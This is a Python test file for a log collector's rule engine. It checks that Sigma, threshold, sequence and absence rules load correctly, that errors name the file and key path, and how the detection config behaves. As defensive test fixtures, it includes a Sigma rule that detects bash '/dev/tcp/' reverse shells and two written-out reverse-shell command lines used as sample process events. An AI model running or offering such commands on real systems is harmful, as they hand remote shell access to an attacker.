"""Rule files and the detection config: every mistake names file, key path and problem."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest
from prometheus_client import CollectorRegistry, generate_latest

from canhgac.config import load_section
from canhgac.errors import ConfigError
from collector.config import CollectorConfig
from collector.detect import setup
from collector.detect.config import DetectionConfig
from collector.detect.loader import BUILTIN_DIR, load_file, load_paths
from collector.detect.ruleset import select
from collector.pipeline import Pipeline

UUID = "6a1d3f2e-7e4b-4a5e-9c1b-2f3e4d5c6b7a"

SIGMA = f"""
title: t
id: {UUID}
level: high
logsource: {{product: canhgac, service: process}}
detection:
  sel: {{process.name: sh}}
  condition: sel
"""


def write(tmp_path: Path, text: str, name: str = "r.yml") -> Path:
    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    return p


def error_of(path: Path) -> ConfigError:
    with pytest.raises(ConfigError) as exc:
        load_file(path)
    return exc.value


@pytest.mark.parametrize(("change", "key", "problem"), [
    (("level: high", "level: severe"), "level", "must be one of"),
    (("title: t\n", ""), "title", "is required"),
    ((f"id: {UUID}", "id: not-a-uuid"), "id", "must be a UUID"),
    (("service: process", "service: nope"), "logsource", "no canhgac telemetry"),
    (("process.name: sh", "process.name|startwith: sh"), "detection.sel.process.name|startwith",
     "unknown modifier"),
    (("condition: sel", "condition: sel and not filter"), "detection.condition",
     "'filter' not defined"),
    (("level: high", "level: high\ntags: [t1059]"), "tags[0]", "no namespace"),
    (("level: high", "level: high\nkind: magic"), "kind", "must be one of"),
    (("level: high", "level: high\nthrottle: soon"), "throttle", "not a duration"),
    (("level: high", "level: high\ngroup_by: [Nope]"), "group_by[0]", "unknown field"),
    (("level: high", "level: high\nthreshold: {count: 5}"), "threshold", "not a key of a Sigma"),
])
def test_sigma_rule_errors(tmp_path: Path, change: tuple[str, str], key: str, problem: str) -> None:
    path = write(tmp_path, SIGMA.replace(*change))
    err = error_of(path)
    assert err.source == str(path)
    assert err.path == key
    assert problem in err.problem
    assert str(err).startswith(f"{path}: {key}: ")


THRESHOLD = """
title: t
id: thr-1
kind: threshold
level: medium
dataset: auth
group_by: source.ip
detection: {f: {event.outcome: failure}, condition: f}
threshold: {count: 5, window: 1m}
"""


@pytest.mark.parametrize(("change", "key", "problem"), [
    (("count: 5", "count: 0"), "threshold.count", "positive integer"),
    (("window: 1m", "window: later"), "threshold.window", "not a duration"),
    (("dataset: auth", "dataset: authz"), "dataset", "unknown dataset 'authz'"),
    (("group_by: source.ip\n", ""), "group_by", "is required"),
    (("level: medium", "level: medium\nlogsource: {}"), "logsource", "unknown key"),
    (("{count: 5, window: 1m}", "{count: 5, window: 1m, per: x}"), "threshold.per", "unknown key"),
])
def test_threshold_rule_errors(tmp_path: Path, change, key: str, problem: str) -> None:
    err = error_of(write(tmp_path, THRESHOLD.replace(*change)))
    assert (err.path, problem in err.problem) == (key, True), str(err)


SEQUENCE = """
title: t
id: seq-1
kind: sequence
level: high
dataset: auth
group_by: source.ip
sequence:
  window: 5m
  steps:
    - {count: 3, detection: {f: {event.outcome: failure}, condition: f}}
    - {detection: {s: {event.outcome: success}, condition: s}}
"""


def test_sequence_rule_errors(tmp_path: Path) -> None:
    err = error_of(write(tmp_path, SEQUENCE.replace(
        "{detection: {s: {event.outcome: success}, condition: s}}",
        "{count: 2, detection: {s: {event.outcome: success}, condition: s}}")))
    assert err.path == "sequence.steps[1].count" and "last step" in err.problem
    err = error_of(write(tmp_path, SEQUENCE.replace("condition: s}", "condition: x}")))
    assert err.path == "sequence.steps[1].detection.condition"
    err = error_of(write(tmp_path, SEQUENCE.replace("dataset: auth\n", "")))
    assert err.path == "sequence.steps[0].dataset"


def test_absence_needs_exactly_one_timeout(tmp_path: Path) -> None:
    base = """
title: t
id: abs-1
kind: absence
level: medium
dataset: agent.health
group_by: agent.id
detection: {h: {agent.id|exists: true}, condition: h}
absence: {intervals: 3, timeout: 90s}
"""
    err = error_of(write(tmp_path, base))
    assert err.path == "absence" and "exactly one" in err.problem
    err = error_of(write(tmp_path, base.replace(", timeout: 90s", "").replace("3", "-1")))
    assert err.path == "absence.intervals"


def test_yaml_problems(tmp_path: Path) -> None:
    err = error_of(write(tmp_path, "title: a\ntitle: b\n"))
    assert err.path == "line 2, column 1" and "duplicate key 'title'" in err.problem
    err = error_of(write(tmp_path, "title: [\n"))
    assert "invalid YAML" in err.problem
    err = error_of(write(tmp_path, ""))
    assert err.problem == "holds no rule"
    with pytest.raises(ConfigError, match="file not found"):
        load_file(tmp_path / "missing.yml")


def test_multi_rule_file_prefixes_the_document_index(tmp_path: Path) -> None:
    text = SIGMA + "---\n" + THRESHOLD.replace("count: 5", "count: zero")
    err = error_of(write(tmp_path, text))
    assert err.path == "[1].threshold.count"
    ok = load_file(write(tmp_path, SIGMA + "---\n" + THRESHOLD))
    assert [lr.rule.kind for lr in ok] == ["sigma", "threshold"]


def test_duplicate_ids_across_files(tmp_path: Path) -> None:
    write(tmp_path, SIGMA, "a.yml")
    write(tmp_path, SIGMA, "b.yml")
    with pytest.raises(ConfigError) as exc:
        load_paths([(tmp_path, "mine")])
    assert exc.value.source.endswith("b.yml") and "a.yml" in exc.value.problem


def test_community_sigma_field_names_and_logsource(tmp_path: Path) -> None:
    rule = f"""
title: Linux reverse shell via bash
id: {UUID}
status: test
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {{product: linux, category: process_creation}}
detection:
  selection:
    Image|endswith: /bash
    CommandLine|contains|all: [' -i ', '/dev/tcp/']
  condition: selection
"""
    (lr,) = load_file(write(tmp_path, rule))
    assert lr.rule.datasets == ("process",)
    doc = {"event": {"dataset": "process", "type": ["start"]},
           "process": {"executable": "/usr/bin/bash",
                       "command_line": "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}}
    assert lr.rule.on_event(doc, 0.0) is not None
    # process_creation is a process start: the same process ending, or a baseline, is not
    # (issue 15 finding: the rule matched process end events too).
    for other in (["end"], ["info"], None):
        assert lr.rule.on_event({**doc, "event": {"dataset": "process", "type": other}}, 0.0) is None


def test_file_event_means_created_or_modified_not_deleted(tmp_path: Path) -> None:
    """Issue 15 finding: SigmaHQ "New Cron File Created" fired when the file was deleted."""
    rule = f"""
title: cron file
id: {UUID}
status: test
level: medium
logsource: {{product: linux, category: file_event}}
detection:
  selection:
    TargetFilename|startswith: /etc/cron.d/
  condition: selection
"""
    (lr,) = load_file(write(tmp_path, rule))
    doc = {"event": {"dataset": "file"}, "file": {"path": "/etc/cron.d/evil"}}
    fired = {t: lr.rule.on_event({**doc, "event": {"dataset": "file", "type": [t]}}, 0.0)
             is not None for t in ("creation", "change", "deletion")}
    assert fired == {"creation": True, "change": True, "deletion": False}


# --- the detection: section -----------------------------------------------------------


def cfg(**raw) -> DetectionConfig:
    return load_section(raw, DetectionConfig, "collector.yaml", "detection")


def test_select_packs_and_disabled() -> None:
    all_rules = select(cfg(), "collector.yaml").loaded
    assert len(all_rules) >= 11
    auth = select(cfg(packs=["auth"]), "collector.yaml").loaded
    assert {lr.rule.meta.ruleset for lr in auth} == {"canhgac/auth"}
    fewer = select(cfg(disabled=["canhgac_reverse_shell"]), "collector.yaml").loaded
    assert len(fewer) == len(all_rules) - 1


@pytest.mark.parametrize(("raw", "key", "problem"), [
    ({"packs": ["windows"]}, "detection.packs[0]", "unknown pack 'windows'"),
    ({"disabled": ["nope"]}, "detection.disabled[0]", "no loaded rule"),
    ({"rules_dirs": ["/nonexistent/rules"]}, "detection.rules_dirs[0]", "does not exist"),
])
def test_select_errors(raw, key: str, problem: str) -> None:
    with pytest.raises(ConfigError) as exc:
        select(cfg(**raw), "collector.yaml")
    assert (exc.value.source, exc.value.path) == ("collector.yaml", key)
    assert problem in exc.value.problem


def test_config_errors_name_the_key() -> None:
    with pytest.raises(ConfigError) as exc:
        cfg(throttel="5m")
    assert exc.value.path == "detection.throttel"
    with pytest.raises(ConfigError) as exc:
        cfg(max_keys=1)
    assert exc.value.path == "detection.max_keys"


def test_user_rules_dir_is_loaded_with_its_ruleset(tmp_path: Path) -> None:
    d = tmp_path / "province-rules"
    d.mkdir()
    write(d, SIGMA)
    loaded = select(cfg(packs=[], rules_dirs=[str(d)]), "collector.yaml").loaded
    assert [lr.rule.meta.ruleset for lr in loaded] == ["province-rules"]


def _ctx(raw: dict) -> SimpleNamespace:
    config = load_section({"detection": raw, "heartbeat_interval": "10s"}, CollectorConfig, "c.yaml")
    started: list[object] = []
    return SimpleNamespace(config=config, source="c.yaml", pipeline=Pipeline(),
                           registry=CollectorRegistry(), started=started,
                           add_startable=started.append)


def test_setup_adds_the_stage_and_metrics() -> None:
    ctx = _ctx({"throttle": "1m"})
    engine = setup(ctx)  # type: ignore[arg-type]
    assert engine is not None and ctx.pipeline.stages == [engine]
    assert engine.limits.throttle == 60 and engine.limits.heartbeat_interval == 10
    batch = [{"@timestamp": "2026-11-23T10:00:00Z",
              "event": {"dataset": "process", "id": "p1", "type": ["start"]},
              "process": {"command_line": "sh -i >& /dev/tcp/203.0.113.1/80 0>&1"},
              "host": {"hostname": "web-01"}}]
    (alert,) = ctx.pipeline.process(batch)
    assert alert["rule"]["name"] == "Reverse shell command line"
    assert alert["rule"]["ruleset"] == "canhgac/host"
    text = generate_latest(ctx.registry).decode()
    assert "canhgac_detect_events_total 1.0" in text
    assert "canhgac_detect_rules" in text
    assert 'canhgac_detect_reloads_total{result="ok"} 0.0' in text
    assert len(ctx.started) == 1  # the rule watcher: started and stopped with the collector


def test_setup_disabled_and_bad_config() -> None:
    ctx = _ctx({"enabled": False})
    assert setup(ctx) is None and ctx.pipeline.stages == []  # type: ignore[arg-type]
    with pytest.raises(ConfigError) as exc:
        setup(_ctx({"packs": "auth"}))  # type: ignore[arg-type]
    assert (exc.value.source, exc.value.path) == ("c.yaml", "detection.packs")


def test_builtin_dir_is_the_repository_pack() -> None:
    assert (BUILTIN_DIR / "auth" / "ssh_brute_force.yml").is_file()
